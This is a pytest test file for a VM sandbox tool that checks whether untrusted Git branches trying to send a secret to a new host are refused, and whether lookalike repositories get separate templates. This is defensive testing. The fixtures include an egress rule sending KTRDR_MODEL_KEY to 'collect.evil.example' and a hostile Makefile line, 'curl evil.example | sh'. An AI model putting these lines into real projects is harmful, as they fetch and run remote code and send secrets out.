"""A branch that sends a secret elsewhere than the trusted one does; and templates of repositories that look alike. Real
Git, no VM."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from ktrdr_vm.cli.main import cli
from ktrdr_vm.errors import DocumentError, HostError, UsageError
from ktrdr_vm.host.journal import Journal
from ktrdr_vm.host.libvirt import Libvirt
from ktrdr_vm.host.paths import Home
from ktrdr_vm.host.repository import find_repository
from ktrdr_vm.inputs import resolve
from ktrdr_vm.inputs.resolve import gather
from ktrdr_vm.inputs.trusted import compare, list_refs, require_accepted
from ktrdr_vm.instance.instance import Instance
from ktrdr_vm.places.model import Place
from ktrdr_vm.places.pack import Asked, pack_request
from ktrdr_vm.policy.owner_policy import OwnerPolicy, TrustedProject
from ktrdr_vm.templates import project as prepare

BASE = "version: 1\nname: p\nimage: debian-13-docker\nworkspace: {source: .}\nprepare: {playbook: playbooks/make.yaml, key: [lock]}\n"
MORE = BASE + (
    "egress: {allow: [{host: collect.evil.example}]}\nsecrets: [{name: key, source: {env: KTRDR_MODEL_KEY}}]\n"
)
PLAY = "- hosts: all\n  tasks: [{name: make, ansible.builtin.command: {cmd: make deps}}]\n"


def git(folder: Path, *words: str) -> str:
    settings = ["-c", "user.name=lab", "-c", "user.email=lab@test.lab", "-c", "init.defaultBranch=main"]
    return subprocess.run(
        ["git", *settings, *words], cwd=folder, check=True, capture_output=True, text=True
    ).stdout.strip()


def make_repository(place: Path, makefile: str = "deps:\n") -> Path:
    (place / "playbooks").mkdir(parents=True)
    for name, text in {"p.yaml": BASE, "playbooks/make.yaml": PLAY, "lock": "1\n", "Makefile": makefile}.items():
        (place / name).write_text(text)
    git(place, "init", "-q")
    git(place, "add", ".")
    git(place, "commit", "-qm", "base")
    return place


def on_branch(repository: Path, name: str = "feat/x", text: str = MORE) -> None:
    git(repository, "checkout", "-qb", name)
    (repository / "p.yaml").write_text(text)
    git(repository, "commit", "-qam", "more")


def beyond(repository: Path, **more: Any) -> tuple[Any, ...]:
    return gather(
        repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one", **more
    ).beyond


def test_a_branch_that_wants_more_for_a_secret_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repository = make_repository(tmp_path / "r")
    monkeypatch.setenv("KTRDR_MODEL_KEY", "value")
    monkeypatch.setenv("KTRDR_VM_HOME", str(tmp_path / "home"))
    assert beyond(repository) == ()
    on_branch(repository)
    assert [one.text for one in beyond(repository) if one.carries] == [
        "egress to collect.evil.example:443", "the secret KTRDR_MODEL_KEY in the guest",
    ]  # fmt: skip
    with pytest.raises(UsageError) as caught:
        cli.main(
            ["apply", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"],
            standalone_mode=False,
        )
    assert (
        caught.value.exit_code == 2
        and "--accept-changes" in caught.value.hint
        and "collect.evil.example" in str(caught.value)
    )
    assert not (tmp_path / "home").exists()


def test_a_confirmation_on_the_command_line_lets_the_run_begin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repository = make_repository(tmp_path / "r")
    on_branch(repository)
    monkeypatch.setenv("KTRDR_VM_HOME", str(tmp_path / "home"))
    ran: list[str] = []

    class Begun(Exception):
        pass

    def run(gathered: Any, *_: Any, **__: Any) -> None:
        ran.append(gathered.plan.identity.instance_id)
        raise Begun

    monkeypatch.setattr("ktrdr_vm.run.run.Run", run)
    words = ["apply", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"]
    with pytest.raises(UsageError):
        cli.main(words, standalone_mode=False)
    assert ran == []
    with pytest.raises(Begun):
        cli.main([*words, "--accept-changes"], standalone_mode=False)
    assert ran == ["one"]


def test_plan_shows_it_and_refuses_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    repository = make_repository(tmp_path / "r")
    monkeypatch.setenv("KTRDR_VM_HOME", str(tmp_path / "home"))
    on_branch(repository)
    cli.main(
        ["plan", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"],
        standalone_mode=False,
    )
    shown = capsys.readouterr().out
    assert "not on the trusted branch: egress to collect.evil.example:443  (a secret can be sent there)" in shown


def test_the_trusted_branch_is_the_owners_then_the_clones_then_main(tmp_path: Path) -> None:
    origin = make_repository(tmp_path / "origin")
    git(origin, "branch", "-m", "develop")
    git(tmp_path, "clone", "-q", str(origin), "clone")
    clone = tmp_path / "clone"
    assert beyond(clone) == ()
    on_branch(clone)
    assert beyond(clone)
    found, loaded = find_repository(clone), SimpleNamespace(source=str(clone / "p.yaml"), profile=None)
    policy = OwnerPolicy(projects=(TrustedProject(str(clone), ("feat/x",)),))
    assert compare(loaded, found, policy) == ()  # type: ignore[arg-type]
    # The refs of every repository count where none is listed for this one.
    assert compare(loaded, found, OwnerPolicy(prepare_refs=("feat/x",))) == ()  # type: ignore[arg-type]
    loaded.profile = gather(
        clone / "p.yaml", home=Home(tmp_path / "home"), workspace=clone, instance_id="one"
    ).plan.profile
    both = OwnerPolicy(projects=(TrustedProject(str(clone), ("develop",)),), prepare_refs=("feat/x",))
    assert compare(loaded, found, both)  # type: ignore[arg-type]
    # The policy of another repository says nothing of this one.
    other = OwnerPolicy(projects=(TrustedProject(str(origin), ("feat/x",)),))
    assert compare(loaded, found, other)  # type: ignore[arg-type]


@pytest.mark.parametrize(("default", "name"), [("main", "master"), ("develop", "main"), ("develop", "master")])
def test_a_usual_name_is_trusted_only_if_it_is_the_default_branch(tmp_path: Path, default: str, name: str) -> None:
    origin = make_repository(tmp_path / "origin")
    git(origin, "branch", "-m", default)
    git(tmp_path, "clone", "-q", str(origin), "clone")
    on_branch(tmp_path / "clone", name)
    assert any(one.carries for one in beyond(tmp_path / "clone"))
    # Without a clone's default branch it is the first of the two that exists.
    git(tmp_path / "clone", "symbolic-ref", "--delete", "refs/remotes/origin/HEAD")
    assert bool(beyond(tmp_path / "clone")) == (default == "main")


@pytest.mark.parametrize("words", [("checkout", "-qb", "feat/x"), ("checkout", "-q", "--detach")])
def test_a_change_that_is_not_committed_is_compared_too(tmp_path: Path, words: tuple[str, ...]) -> None:
    repository = make_repository(tmp_path / "r")
    git(repository, *words)
    assert beyond(repository) == ()
    (repository / "p.yaml").write_text(MORE)
    assert any(one.carries for one in beyond(repository))


@pytest.mark.parametrize("workspace", ["", "workspace: {source: nested}\n"])
def test_a_profile_is_compared_by_its_own_repository_whatever_its_workspace_is(tmp_path: Path, workspace: str) -> None:
    """Else a branch leaves the workspace out, or names a repository inside of it, and nothing is compared."""
    repository = make_repository(tmp_path / "r")
    make_repository(repository / "nested")
    head = "version: 1\nname: p\nimage: debian-13-docker\n" + workspace
    on_branch(repository, text=head + MORE.removeprefix(BASE))
    assert any(one.carries for one in beyond(repository))
    git(repository, "checkout", "-q", "main")
    (repository / "p.yaml").write_text(head + MORE.removeprefix(BASE))
    assert beyond(repository) == ()


@pytest.mark.parametrize("workspace", ["", "workspace: {source: .}\n"])
def test_a_request_to_a_place_is_compared_before_it_is_sent(tmp_path: Path, workspace: str) -> None:
    """The place cannot: it has no repository if the profile has no workspace, and its policy is another one."""
    repository = make_repository(tmp_path / "r")
    on_branch(repository, text="version: 1\nname: p\nimage: debian-13-docker\n" + workspace + MORE.removeprefix(BASE))
    asked = Asked(repository / "p.yaml", repository, "me", instance_id="one")
    base: Any = (find_repository(repository), None) if workspace else None
    far = Place("far", "ssh", "h")
    with pytest.raises(UsageError, match=r"collect\.evil\.example") as refused:
        pack_request(asked, far, tmp_path / "request", "q1", print, base=base)
    assert "--accept-changes" in refused.value.hint and not (tmp_path / "request").exists()
    if not workspace:
        pack_request(replace(asked, accept_changes=True), far, tmp_path / "request", "q1", print, base=base)
        assert (tmp_path / "request").is_dir()


def test_a_persons_own_profile_outside_of_the_repository_is_theirs(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "r")
    on_branch(repository)
    own = tmp_path / "own.yaml"
    own.write_text(MORE)
    assert gather(own, home=Home(tmp_path / "home"), workspace=repository, instance_id="one").beyond == ()
    require_accepted((), "x")


# -- templates --------------------------------------------------------------------------------------------------------


def key_of(repository: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    gathered = gather(
        repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one"
    )
    assert gathered.repository is not None and gathered.plan.profile.prepare is not None
    monkeypatch.setattr(prepare, "_find_tree", lambda _repository: "")
    home: Any = None
    project = prepare._describe(
        home, gathered, gathered.repository, gathered.plan.profile.prepare, gathered.plan, home, None, lambda _: None
    )
    assert project.made_from["commit"] == gathered.repository.commit
    return project.digest


def test_repositories_that_look_alike_have_templates_of_their_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    one = make_repository(tmp_path / "one")
    keys = {key_of(one, monkeypatch)}
    hostile = make_repository(tmp_path / "two", "deps:\n\tcurl evil.example | sh\n")
    keys.add(key_of(hostile, monkeypatch))
    git(tmp_path, "clone", "-q", str(one), "cloned")
    keys.add(key_of(tmp_path / "cloned", monkeypatch))
    shutil.copytree(one, tmp_path / "copied")
    keys.add(key_of(tmp_path / "copied", monkeypatch))
    # In place of the first, under its very name.
    one.rename(tmp_path / "away")
    shutil.copytree(hostile, one)
    keys.add(key_of(one, monkeypatch))
    assert len(keys) == 5


def test_a_linked_worktree_shares_the_template_of_its_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    main = make_repository(tmp_path / "main")
    git(main, "worktree", "add", "-q", "-b", "side", str(tmp_path / "linked"))
    assert key_of(main, monkeypatch) == key_of(tmp_path / "linked", monkeypatch)


def test_the_folder_of_a_repository_includes_its_linked_worktrees(tmp_path: Path) -> None:
    main = make_repository(tmp_path / "main")
    git(main, "worktree", "add", "-q", "-b", "side", str(tmp_path / "linked"))
    shutil.copytree(main, tmp_path / "copied")
    policy = OwnerPolicy(projects=(TrustedProject(str(main), ("main",)), TrustedProject(str(main), ("release",))))
    for name, listed in (("main", ("main", "release")), ("linked", ("main", "release")), ("copied", ())):
        assert list_refs(policy, find_repository(tmp_path / name)) == listed


def test_a_profile_without_a_life_has_the_longest_of_the_policy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repository = make_repository(tmp_path / "r")
    monkeypatch.setattr(resolve, "read_policy", lambda: OwnerPolicy(longest_life=86400))

    def find_life(text: str) -> int:
        (repository / "p.yaml").write_text(text)
        made = gather(repository / "p.yaml", home=Home(tmp_path / "home"), workspace=repository, instance_id="one")
        return made.plan.profile.ttl

    assert (find_life(BASE), find_life(BASE + "ttl: 2h\n")) == (86400, 7200)
    with pytest.raises(DocumentError, match="ttl"):
        find_life(BASE + "ttl: 2d\n")


def test_the_policy_of_a_project_lets_it_be_prepared(tmp_path: Path) -> None:
    repository = make_repository(tmp_path / "r")
    gathered = gather(repository / "p.yaml", home=Home(tmp_path / "home"), workspace=repository, instance_id="one")
    found, wanted = gathered.repository, gathered.plan.profile.prepare
    assert found is not None and wanted is not None
    for path, trusted in ((repository, True), (tmp_path, False)):
        policy = OwnerPolicy(projects=(TrustedProject(str(path), ("main",)),))
        said = prepare._distrust(SimpleNamespace(policy=policy), found, wanted)  # type: ignore[arg-type]
        assert (said == "") == trusted, said


def test_a_sandbox_that_prepares_counts_among_the_instances(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`begin` refuses it then before anything is made, as any other."""
    repository = make_repository(tmp_path / "r")
    monkeypatch.setattr(resolve, "read_policy", lambda: OwnerPolicy(most_instances=7))
    gathered = gather(repository / "p.yaml", home=Home(tmp_path / "home"), workspace=repository, instance_id="one")
    home = Home(tmp_path / "home")
    home.create()
    for number in range(7):
        folder = home.instance(f"other-{number}").directory
        folder.mkdir()
        Journal(home.instance(f"other-{number}").journal, f"other-{number}", slot=number).save()
    monkeypatch.setattr(prepare, "find_template", lambda *_: None)
    monkeypatch.setattr(Instance, "destroy", lambda _self: None)
    monkeypatch.setattr(Instance, "_require_nothing_left", lambda _self: None)
    assert gathered.repository is not None and gathered.plan.profile.prepare is not None
    image: Any = None
    project = prepare._describe(
        home,
        gathered,
        gathered.repository,
        gathered.plan.profile.prepare,
        gathered.plan,
        image,
        Libvirt(),
        lambda _: None,
    )
    with pytest.raises(HostError, match="7 instances exist, and the owner of this host allows 7"):
        project.make_disk(tmp_path / "disk")
